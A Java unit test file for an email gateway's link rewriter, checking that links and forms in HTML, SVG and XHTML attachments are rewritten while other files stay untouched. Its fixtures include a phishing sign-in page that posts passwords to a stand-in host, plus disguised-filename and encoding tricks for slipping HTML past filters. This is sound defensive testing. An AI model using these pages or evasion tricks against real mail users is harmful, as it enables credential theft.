package org.streamail.linkguard.internal;

import static org.assertj.core.api.Assertions.assertThat;

import jakarta.mail.BodyPart;
import jakarta.mail.Multipart;
import jakarta.mail.internet.MimeMessage;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.streamail.api.delivery.Transformation;
import org.streamail.api.model.Content;
import org.streamail.api.model.Direction;
import org.streamail.api.model.Envelope;
import org.streamail.api.model.Verdict;

/**
 * Attachments a browser opens as a page (HTML, XHTML, SVG) are rewritten like inline HTML ({@code rewrite.attachments});
 * every other attachment stays byte for byte. Output read back with Angus Mail as an independent parser.
 */
class AttachmentRewriteTest {

    private static final String PREFIX = LinkRewriterTest.PREFIX;
    private static final Pattern CLICK = Pattern.compile(Pattern.quote(PREFIX) + "([A-Za-z0-9_-]+\\.[A-Za-z0-9_-]+)");
    private static final Set<String> INTERNAL = Set.of("corp.example");
    private static final String PAGE = "<!DOCTYPE html>\r\n<html><head><title>Sign in</title></head><body>\r\n"
            + "<p>Your mailbox   is full &amp; locked.</p>\r\n"
            + "<a href=\"https://evil.example/help?a=1&amp;b=2\" class=x>help</a>\r\n"
            + "<form action='https://evil.example/collect.php' method=post><input name=user>"
            + "<input type=password name=pw><button>Sign in</button></form>\r\n</body></html>\r\n";

    private final LinkTokens tokens = new LinkTokens(LinkTokensTest.KEY);
    private final LinkRewriter rewriter = new LinkRewriter(tokens, "http://gw.example:8181", Set.of(), 500);

    @TempDir
    Path dir;

    private LinkRewriter.Result rewrite(String msg) {
        return rewriter.rewrite(msg.getBytes(StandardCharsets.ISO_8859_1), "m-1", "alice@corp.example", INTERNAL);
    }

    private static String latin1(byte[] b) {
        return new String(b, StandardCharsets.ISO_8859_1);
    }

    private static String b64(String s) {
        return b64(s.getBytes(StandardCharsets.UTF_8));
    }

    private static String b64(byte[] b) {
        return Base64.getMimeEncoder(76, new byte[] {'\r', '\n'}).encodeToString(b);
    }

    /** A multipart/mixed message: a text body, then {@code parts} (each "headers\r\n\r\nbody"). */
    private static String mixed(String... parts) {
        StringBuilder b = new StringBuilder("From: x@evil.example\r\nTo: alice@corp.example\r\nSubject: invoice\r\n"
                + "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n"
                + "--b1\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\nSee the attachment.\r\n");
        for (String p : parts) {
            b.append("--b1\r\n").append(p).append("\r\n");
        }
        return b.append("--b1--\r\n").toString();
    }

    /** The tokens of the click URLs in {@code s}, verified, in order. */
    private List<LinkTokens.Payload> payloads(String s) {
        return LinkRewriterTest.payloads(tokens, s);
    }

    /** {@code s} with its click URLs replaced, in order, by {@code written}: the values as they were written. */
    private static String restore(String s, String... written) {
        Matcher m = CLICK.matcher(s);
        StringBuilder out = new StringBuilder();
        int i = 0;
        while (m.find()) {
            m.appendReplacement(out, Matcher.quoteReplacement(written[i++]));
        }
        m.appendTail(out);
        assertThat(i).isEqualTo(written.length);
        return out.toString();
    }

    private static BodyPart part(byte[] raw, int index) throws Exception {
        MimeMessage m = LinkRewriterTest.parse(raw);
        return ((Multipart) m.getContent()).getBodyPart(index);
    }

    private static byte[] decoded(BodyPart p) throws Exception {
        try (InputStream in = p.getInputStream()) {
            return in.readAllBytes();
        }
    }

    @Test
    void aBase64HtmlAttachmentHasItsLinkAndFormRewrittenAndIsOtherwiseTheSameFile() throws Exception {
        String headers = "Content-Type: text/html; charset=utf-8; name=\"Sign-in.html\"\r\n"
                + "Content-Disposition: attachment; filename=\"Sign-in.html\"\r\nContent-Transfer-Encoding: base64\r\n";
        String msg = mixed(headers + "\r\n" + b64(PAGE));
        LinkRewriter.Result r = rewrite(msg);

        assertThat(r.changed()).isTrue();
        assertThat(r.urls()).containsExactly("https://evil.example/help?a=1&b=2", "https://evil.example/collect.php");
        String out = latin1(r.raw());
        // everything before the attachment's body (its headers included) as it was
        assertThat(out).startsWith(msg.substring(0, msg.indexOf(headers) + headers.length() + 2));
        assertThat(out).endsWith("\r\n--b1--\r\n");
        BodyPart att = part(r.raw(), 1);
        assertThat(att.getFileName()).isEqualTo("Sign-in.html");
        assertThat(att.getDisposition()).isEqualTo("attachment");
        String file = new String(decoded(att), StandardCharsets.UTF_8);
        assertThat(payloads(file)).containsExactly(
                new LinkTokens.Payload("m-1", "alice@corp.example", "https://evil.example/help?a=1&b=2",
                        LinkTokens.Kind.LINK),
                new LinkTokens.Payload("m-1", "alice@corp.example", "https://evil.example/collect.php",
                        LinkTokens.Kind.FORM));
        assertThat(restore(file, "https://evil.example/help?a=1&amp;b=2", "https://evil.example/collect.php"))
                .isEqualTo(PAGE);
        // base64 again, lines of 76
        assertThat(out.substring(out.indexOf(headers) + headers.length() + 2, out.lastIndexOf("\r\n--b1--")))
                .matches("(?s)[A-Za-z0-9+/=\r\n]+");
        assertThat(rewrite(out).changed()).as("a second pass").isFalse();
    }

    @Test
    void anOctetStreamNamedDotHtmlInAnyCaseOrEncodingIsRewritten() throws Exception {
        String link = "<a href=\"https://evil.example/o\">open</a>\r\n";
        for (String headers : List.of(
                "Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"invoice.HTML\"\r\n",
                "Content-Type: application/octet-stream; name=invoice.Htm\r\n",
                "Content-Disposition: attachment; filename*=utf-8''facture%20n%C2%B01%2Ehtml\r\n",
                "Content-Type: application/octet-stream\r\nContent-Disposition: attachment;\r\n"
                        + " filename*0*=utf-8''invoice; filename*1=\".sh\"; filename*2=tml\r\n",
                "Content-Type: application/octet-stream;\r\n name=\"=?UTF-8?B?aW52b2ljZS54aHRtbA==?=\"\r\n",
                "Content-Type: application/pdf\r\nContent-Disposition: attachment; filename=\"statement.svg. \"\r\n",
                "Content-Type: application/octet-stream\r\nContent-Disposition: inline; filename=invoice.html\r\n")) {
            String msg = mixed(headers + "Content-Transfer-Encoding: base64\r\n\r\n" + b64(link));
            LinkRewriter.Result r = rewrite(msg);
            assertThat(r.urls()).as(headers).containsExactly("https://evil.example/o");
            assertThat(latin1(r.raw())).as(headers).contains(headers);
            String file = new String(decoded(part(r.raw(), 1)), StandardCharsets.UTF_8);
            assertThat(restore(file, "https://evil.example/o")).as(headers).isEqualTo(link);
        }
    }

    @Test
    void anSvgAttachmentHasItsXlinkHrefAndHrefRewritten() throws Exception {
        String svg = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
                + "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" width=\"300\">\n"
                + "  <a xlink:href=\"https://evil.example/svg1\"><rect width=\"300\" height=\"100\"/></a>\n"
                + "  <a href=\"https://evil.example/svg2\"><text y=\"40\">Play voice message</text></a>\n"
                + "</svg>\n";
        String msg = mixed("Content-Type: image/svg+xml\r\nContent-Disposition: attachment; filename=\"voice.svg\"\r\n"
                + "Content-Transfer-Encoding: base64\r\n\r\n" + b64(svg));
        LinkRewriter.Result r = rewrite(msg);
        assertThat(r.urls()).containsExactly("https://evil.example/svg1", "https://evil.example/svg2");
        String file = new String(decoded(part(r.raw(), 1)), StandardCharsets.UTF_8);
        assertThat(file).contains("<a xlink:href=\"" + PREFIX);
        assertThat(restore(file, "https://evil.example/svg1", "https://evil.example/svg2")).isEqualTo(svg);
        // an XHTML one in quoted-printable too
        String xhtml = "<html xmlns=\"http://www.w3.org/1999/xhtml\"><body><a href=\"https://evil.example/x\">x</a>"
                + "</body></html>";
        r = rewrite(mixed("Content-Type: application/xhtml+xml\r\nContent-Disposition: attachment\r\n"
                + "Content-Transfer-Encoding: quoted-printable\r\n\r\n" + xhtml.replace("=", "=3D")));
        assertThat(r.urls()).containsExactly("https://evil.example/x");
    }

    @Test
    void otherAttachmentsStayByteForByteWhileAPageBesideThemIsRewritten() throws Exception {
        byte[] pdf = ("%PDF-1.4\n1 0 obj << /Type /Annot /Subtype /Link /A << /S /URI /URI (https://evil.example/pdf) >> >>"
                + "\nendobj\n<a href=\"https://evil.example/in-pdf\">x</a>\n%%EOF\n").getBytes(StandardCharsets.ISO_8859_1);
        byte[] zip = new byte[300];
        byte[] inZip = "PK\u0003\u0004page.html<a href=\"https://evil.example/in-zip\">".getBytes(StandardCharsets.ISO_8859_1);
        System.arraycopy(inZip, 0, zip, 0, inZip.length);
        for (int i = inZip.length; i < zip.length; i++) {
            zip[i] = (byte) (i * 31);
        }
        byte[] png = new byte[200];
        png[0] = (byte) 0x89;
        System.arraycopy("PNG<a href=\"https://evil.example/in-png\">".getBytes(StandardCharsets.ISO_8859_1), 0, png, 1, 40);
        List<String> others = List.of(
                "Content-Type: application/pdf; name=\"invoice.pdf\"\r\nContent-Disposition: attachment; "
                        + "filename=\"invoice.pdf\"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b64(pdf),
                "Content-Type: application/zip\r\nContent-Disposition: attachment; filename=\"page.zip\"\r\n"
                        + "Content-Transfer-Encoding: base64\r\n\r\n" + b64(zip),
                "Content-Type: image/png\r\nContent-Disposition: attachment; filename=\"logo.png\"\r\n"
                        + "Content-Transfer-Encoding: base64\r\n\r\n" + b64(png),
                "Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"page.html.zip\"\r\n"
                        + "Content-Transfer-Encoding: base64\r\n\r\n" + b64(zip),
                "Content-Type: text/plain; name=\"notes.txt\"\r\nContent-Disposition: attachment\r\n\r\n"
                        + "Open https://evil.example/txt and <a href=\"https://evil.example/txt2\">this</a>");
        List<String> parts = new ArrayList<>(others);
        parts.add("Content-Type: text/html\r\nContent-Disposition: attachment; filename=a.html\r\n\r\n"
                + "<a href=\"https://evil.example/page\">p</a>");
        String msg = mixed(parts.toArray(String[]::new));
        LinkRewriter.Result r = rewrite(msg);
        assertThat(r.urls()).containsExactly("https://evil.example/page");
        String out = latin1(r.raw());
        for (String other : others) {
            assertThat(out).contains("--b1\r\n" + other + "\r\n--b1\r\n");
        }
        assertThat(decoded(part(r.raw(), 1))).isEqualTo(pdf);
        assertThat(decoded(part(r.raw(), 2))).isEqualTo(zip);
        assertThat(decoded(part(r.raw(), 3))).isEqualTo(png);
        // only the page attachment's body differs
        assertThat(out.substring(0, out.lastIndexOf("<a href=\""))).isEqualTo(msg.substring(0, msg.lastIndexOf("<a href=\"")));
        // and with nothing but those, the message is returned as it came
        byte[] plain = mixed(others.toArray(String[]::new)).getBytes(StandardCharsets.ISO_8859_1);
        LinkRewriter.Result none = rewriter.rewrite(plain, "m-1", "alice@corp.example", INTERNAL);
        assertThat(none.changed()).isFalse();
        assertThat(none.raw()).isSameAs(plain);
    }

    @Test
    void aUtf16HtmlAttachmentWithAByteOrderMarkIsRewrittenAndStaysUtf16() throws Exception {
        byte[] bom = {(byte) 0xFF, (byte) 0xFE};
        byte[] body = PAGE.getBytes(StandardCharsets.UTF_16LE);
        byte[] file = new byte[bom.length + body.length];
        System.arraycopy(bom, 0, file, 0, 2);
        System.arraycopy(body, 0, file, 2, body.length);
        LinkRewriter.Result r = rewrite(mixed("Content-Type: application/octet-stream; name=\"login.htm\"\r\n"
                + "Content-Transfer-Encoding: base64\r\n\r\n" + b64(file)));
        assertThat(r.urls()).containsExactly("https://evil.example/help?a=1&b=2", "https://evil.example/collect.php");
        byte[] out = decoded(part(r.raw(), 1));
        assertThat(out[0]).isEqualTo((byte) 0xFF);
        assertThat(out[1]).isEqualTo((byte) 0xFE);
        String text = new String(out, 2, out.length - 2, StandardCharsets.UTF_16LE);
        assertThat(restore(text, "https://evil.example/help?a=1&amp;b=2", "https://evil.example/collect.php"))
                .isEqualTo(PAGE);
    }

    /** Without a byte order mark, a page in UTF-16 was read as ISO-8859-1: no link found, every one left live. */
    @Test
    void aUtf16HtmlAttachmentWithoutAByteOrderMarkIsRecognisedAndStaysAsItCame() throws Exception {
        for (java.nio.charset.Charset cs : List.of(StandardCharsets.UTF_16LE, StandardCharsets.UTF_16BE)) {
            byte[] file = PAGE.getBytes(cs);
            assertThat(LinkRewriter.utf16WithoutMark(file)).isEqualTo(cs.name());
            LinkRewriter.Result r = rewrite(mixed("Content-Type: application/octet-stream; name=\"login.htm\"\r\n"
                    + "Content-Transfer-Encoding: base64\r\n\r\n" + b64(file)));
            assertThat(r.urls()).as(cs.name())
                    .containsExactly("https://evil.example/help?a=1&b=2", "https://evil.example/collect.php");
            byte[] out = decoded(part(r.raw(), 1));
            assertThat(out[0]).as("no mark added").isEqualTo(file[0]);
            assertThat(restore(new String(out, cs), "https://evil.example/help?a=1&amp;b=2",
                    "https://evil.example/collect.php")).isEqualTo(PAGE);
        }
        // ASCII, Latin-1 and UTF-8 text, binary noise and short files are not taken for UTF-16
        assertThat(LinkRewriter.utf16WithoutMark(PAGE.getBytes(StandardCharsets.UTF_8))).isNull();
        assertThat(LinkRewriter.utf16WithoutMark("\u00e9t\u00e9 \u00e0 Paris".repeat(20)
                .getBytes(StandardCharsets.ISO_8859_1))).isNull();
        assertThat(LinkRewriter.utf16WithoutMark(new byte[4096])).as("all NUL").isNull();
        assertThat(LinkRewriter.utf16WithoutMark("<a>".getBytes(StandardCharsets.UTF_16LE))).as("too short").isNull();
        byte[] noise = new byte[4096];
        new java.util.Random(7).nextBytes(noise);
        assertThat(LinkRewriter.utf16WithoutMark(noise)).isNull();
    }

    @Test
    void brokenBase64IsDeliveredUnchangedAndJunkBase64IsReadAsReadersReadIt() throws Exception {
        String garbage = mixed("Content-Type: text/html; name=x.html\r\nContent-Disposition: attachment\r\n"
                + "Content-Transfer-Encoding: base64\r\n\r\n!!!! not base64 at all ====\r\n%%%%\r\nQ");
        LinkRewriter.Result r = rewrite(garbage);
        assertThat(r.changed()).isFalse();
        assertThat(latin1(r.raw())).isEqualTo(garbage);
        // characters outside the alphabet are skipped by readers (RFC 2045 6.8), so the file they open has the links
        String junk = b64(PAGE).replace("\r\n", "\r\n!*\t");
        r = rewrite(mixed("Content-Type: text/html; name=x.html\r\nContent-Disposition: attachment\r\n"
                + "Content-Transfer-Encoding: base64\r\n\r\n" + junk));
        assertThat(r.urls()).containsExactly("https://evil.example/help?a=1&b=2", "https://evil.example/collect.php");
        // an unknown charset is read as ISO-8859-1, every byte kept
        r = rewrite(mixed("Content-Type: text/html; charset=x-unknown-42; name=x.html\r\n"
                + "Content-Disposition: attachment\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
                + "caf\u00e9 <a href=\"https://evil.example/u\">u</a>"));
        assertThat(latin1(r.raw())).contains("caf\u00e9 <a href=\"" + PREFIX);
    }

    @Test
    void anAttachmentOverTheBoundIsLeftAsWritten() {
        StringBuilder big = new StringBuilder(LinkRewriter.MAX_ATTACHMENT_BYTES + 100);
        big.append("<a href=\"https://evil.example/big\">x</a>");
        String line = "<p>" + "x".repeat(70) + "</p>\n";
        while (big.length() <= LinkRewriter.MAX_ATTACHMENT_BYTES) {
            big.append(line);
        }
        String msg = mixed("Content-Type: text/html; name=big.html\r\nContent-Disposition: attachment\r\n"
                + "Content-Transfer-Encoding: base64\r\n\r\n" + b64(big.toString()),
                "Content-Type: text/html; name=small.html\r\nContent-Disposition: attachment\r\n\r\n"
                        + "<a href=\"https://evil.example/small\">x</a>");
        LinkRewriter.Result r = rewrite(msg);
        assertThat(r.urls()).containsExactly("https://evil.example/small");
        assertThat(latin1(r.raw())).startsWith(msg.substring(0, msg.indexOf("<a href=\"https://evil.example/small")));
    }

    @Test
    void theTransformerRecordsAttachmentLinksAndRewriteAttachmentsFalseKeepsTheFile() {
        Settings defaults = TestSettings.defaults(dir.resolve("linkguard.key"));
        Fakes.FakeLinkStore store = new Fakes.FakeLinkStore();
        Instant now = Instant.parse("2026-12-06T10:00:00Z");
        String msg = mixed("Content-Type: text/html; name=\"Sign-in.html\"\r\nContent-Disposition: attachment\r\n"
                + "Content-Transfer-Encoding: base64\r\n\r\n" + b64(PAGE));
        Envelope env = new Envelope("x@evil.example", List.of("alice@corp.example"), "203.0.113.9", "evil", false, now,
                Direction.INBOUND, null);
        Transformation t = new Transformation("gw-7", env, Verdict.clean(), Content.of(msg.getBytes(StandardCharsets.ISO_8859_1)));

        Content out = new LinkGuardTransformer(defaults, null, store, Clock.fixed(now, ZoneOffset.UTC)).transform(t);
        assertThat(out).isNotSameAs(t.raw());
        assertThat(store.recorded).containsExactly(List.of("gw-7", List.of("alice@corp.example"),
                List.of("https://evil.example/help?a=1&b=2", "https://evil.example/collect.php"), now));

        Fakes.FakeLinkStore none = new Fakes.FakeLinkStore();
        Content kept = new LinkGuardTransformer(TestSettings.withRewriteAttachments(defaults, false), null, none,
                Clock.fixed(now, ZoneOffset.UTC)).transform(t);
        assertThat(kept).isSameAs(t.raw());
        assertThat(kept.toByteArray()).isEqualTo(msg.getBytes(StandardCharsets.ISO_8859_1));
        assertThat(none.recorded).isEmpty();
    }
}
